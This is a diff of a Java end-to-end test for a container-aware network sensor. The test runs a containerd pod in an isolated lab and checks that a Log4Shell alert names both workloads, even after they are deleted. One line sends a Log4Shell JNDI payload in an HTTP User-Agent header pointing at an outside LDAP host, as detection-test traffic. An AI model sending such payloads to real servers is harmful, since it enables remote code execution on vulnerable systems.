@@ -18,9 +18,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
-import java.util.HexFormat;
 import java.util.List;
-import java.util.Random;
 import java.util.UUID;
 import java.util.concurrent.TimeUnit;
 import java.util.stream.Stream;
@@ -29,13 +27,14 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * End to end on a real containerd (Debian's 1.6, isolated by {@code pcaps/lab/containerd.sh}): a pod built the way
- * containerd's CRI builds one (sandbox + web container with the CRI annotations, in network namespace
- * {@code cn-ctd-a}) and a plain {@code ctr} container named by nerdctl's annotation (in {@code cn-ctd-b}), both on
- * bridge {@code cn-ctdbr0}; {@code crowsnest live} captures the bridge and names both ends of the Log4Shell alert
- * their traffic raises from containerd's state directory. The client is deleted right after its request: the live
- * alert still names it, and so does a replay of the sensor's own packet ring with its identity journal, run after
- * every container is gone - a container deleted between the packet and the alert is named by what it was.
+ * End to end on a real containerd (Debian's 1.6, isolated by {@code pcaps/lab/containerd.sh ... cri}): a real pod
+ * sandbox and web container run by containerd's CRI plugin without a kubelet ({@link CriClient}), networked by
+ * Debian's CNI plugins (host-device + static: 10.231.0.30 on bridge {@code cn-ctdbr0}), and a plain {@code ctr}
+ * container named by nerdctl's annotation (in namespace {@code cn-ctd-b}, 10.231.0.20, on the same bridge);
+ * {@code crowsnest live} captures the bridge and names both ends of the Log4Shell alert their traffic raises from
+ * containerd's state directory. The client is deleted right after its request: the live alert still names it, and
+ * so does a replay of the sensor's own packet ring with its identity journal, run after every container and the pod
+ * are gone - a container deleted between the packet and the alert is named by what it was.
  */
 @Tag("root")
 class ContainerdLiveRootTest {
@@ -56,30 +55,19 @@ class ContainerdLiveRootTest {
         Path dir = Files.createTempDirectory(Path.of("/tmp"), "cn-ctd-");
         String sock = dir.resolve("containerd.sock").toString();
         Process sensor = null;
+        CriClient cri = new CriClient(sock, tmp);
+        String sandbox = null;
         try {
-            Result up = run(List.of("bash", script.toString(), "up", dir.toString()), 120);
+            Result up = run(List.of("bash", script.toString(), "up", dir.toString(), "cri"), 120);
             assertTrue(up.ok(), () -> "containerd.sh up: " + up.output());
-            Random rnd = new Random();
+            // the pod, as a kubelet would ask for it: sandbox (CNI gives it 10.231.0.30), then its web container
             String uid = UUID.randomUUID().toString();
-            String sandbox = HexFormat.of().formatHex(bytes(rnd));
-            String web = HexFormat.of().formatHex(bytes(rnd));
-            for (String[] c : new String[][] {{sandbox, "sandbox", "sleep", "3600"},
-                    {web, "container", "httpd", "-f", "-p", "8080", "-h", "/www"}}) {
-                List<String> a = new ArrayList<>(List.of("run", "-d", "--with-ns", "network:/var/run/netns/cn-ctd-a",
-                        "--cgroup", "/cn-ctd/kubepods/burstable/pod" + uid + "/" + c[0],
-                        "--annotation", "io.kubernetes.cri.container-type=" + c[1],
-                        "--annotation", "io.kubernetes.cri.sandbox-id=" + sandbox,
-                        "--annotation", "io.kubernetes.cri.sandbox-name=web-5d8f",
-                        "--annotation", "io.kubernetes.cri.sandbox-namespace=shop",
-                        "--annotation", "io.kubernetes.cri.sandbox-uid=" + uid));
-                if (c[1].equals("container")) {
-                    a.addAll(List.of("--annotation", "io.kubernetes.cri.container-name=web",
-                            "--annotation", "io.kubernetes.cri.image-name=docker.io/shop/web:2.1"));
-                }
-                a.addAll(List.of(IMAGE, c[0], "/bin/busybox"));
-                a.addAll(List.of(c).subList(2, c.length));
-                ctr(sock, "k8s.io", a.toArray(String[]::new));
-            }
+            Path logs = Files.createDirectories(tmp.resolve("pod-logs"));
+            byte[] pod = CriClient.sandboxConfig("web-5d8f", uid, "shop", logs.toString(), "/cn-ctd/kubepods/burstable/pod" + uid);
+            sandbox = cri.runPodSandbox(pod);
+            String web = cri.createContainer(sandbox, pod, "web", IMAGE, List.of("/bin/busybox"),
+                    List.of("httpd", "-f", "-p", "8080", "-h", "/www"));
+            cri.startContainer(web);
             ctr(sock, "cn-ctd", "run", "-d", "--with-ns", "network:/var/run/netns/cn-ctd-b", "--annotation",
                     "nerdctl/name=debug-shell", IMAGE, "cn-ctd-client", "/bin/busybox", "sleep", "3600");
 
@@ -99,7 +87,7 @@ class ContainerdLiveRootTest {
 
             Result wget = run(List.of("ctr", "-a", sock, "-n", "cn-ctd", "tasks", "exec", "--exec-id", "wget-1", "cn-ctd-client",
                     "/bin/busybox", "wget", "-q", "-O", "/dev/null", "--header", "User-Agent: ${jndi:ldap://10.231.0.66:1389/a}",
-                    "http://10.231.0.10:8080/"), 30);
+                    "http://10.231.0.30:8080/"), 30);
             assertTrue(wget.ok(), wget::output);
             ctr(sock, "cn-ctd", "tasks", "delete", "-f", "cn-ctd-client"); // gone right after its request
             ctr(sock, "cn-ctd", "containers", "delete", "cn-ctd-client");
@@ -117,10 +105,9 @@ class ContainerdLiveRootTest {
             sensor.destroy(); // SIGTERM: flushes eve.json, the journal and the ring
             assertTrue(sensor.waitFor(20, TimeUnit.SECONDS), "sensor did not exit on SIGTERM");
             assertEquals(0, sensor.exitValue(), Files.readString(err));
-            for (String id : List.of(web, sandbox)) {
-                ctr(sock, "k8s.io", "tasks", "delete", "-f", id);
-                ctr(sock, "k8s.io", "containers", "delete", id);
-            }
+            cri.stopPodSandbox(sandbox); // the pod goes, as the kubelet deletes it
+            cri.removePodSandbox(sandbox);
+            sandbox = null;
 
             // every container is gone now: a replay of the captured packets with the journal still names them
             ReplayOptions o = new ReplayOptions();
@@ -146,6 +133,14 @@ class ContainerdLiveRootTest {
                 sensor.destroyForcibly();
                 sensor.waitFor(10, TimeUnit.SECONDS);
             }
+            if (sandbox != null) {
+                try {
+                    cri.stopPodSandbox(sandbox); // the CNI DEL hands the pod's interface back
+                    cri.removePodSandbox(sandbox);
+                } catch (Exception e) {
+                    System.err.println("cleanup: " + e.getMessage() + " (containerd.sh down removes it anyway)");
+                }
+            }
             Result down = run(List.of("bash", script.toString(), "down", dir.toString()), 120);
             if (!down.ok()) {
                 System.err.println("containerd.sh down: " + down.output());
@@ -160,6 +155,7 @@ class ContainerdLiveRootTest {
         assertEquals("container", s.path("kind").asText(), what + ": " + a);
         assertEquals("debug-shell", s.path("container").asText(), a);
         assertEquals("cn-ctd-client", s.path("container_id").asText(), a);
+        assertEquals("10.231.0.30", alert.path("dest_ip").asText(), a);
         assertEquals("cn-ctd", s.path("labels").path("containerd.namespace").asText(), a);
         assertEquals("cn-ctd-node", s.path("node").asText(), a);
         JsonNode d = alert.path("dest_workload");
@@ -168,7 +164,7 @@ class ContainerdLiveRootTest {
         assertEquals("web-5d8f", d.path("pod").asText(), a);
         assertEquals("web", d.path("container").asText(), a);
         assertEquals(webId, d.path("container_id").asText(), a);
-        assertEquals("docker.io/shop/web:2.1", d.path("image").asText(), a);
+        assertEquals(IMAGE, d.path("image").asText(), a);
         assertFalse(d.has("owner"), "no Kubernetes API here: no owner: " + a);
     }
 
@@ -180,12 +176,6 @@ class ContainerdLiveRootTest {
             }
         }
         throw new AssertionError("no Log4Shell alert in " + eve + ":\n" + Files.readString(eve));
-    }
-
-    private static byte[] bytes(Random rnd) {
-        byte[] b = new byte[32];
-        rnd.nextBytes(b);
-        return b;
     }
 
     private static void ctr(String sock, String namespace, String... args) throws Exception {
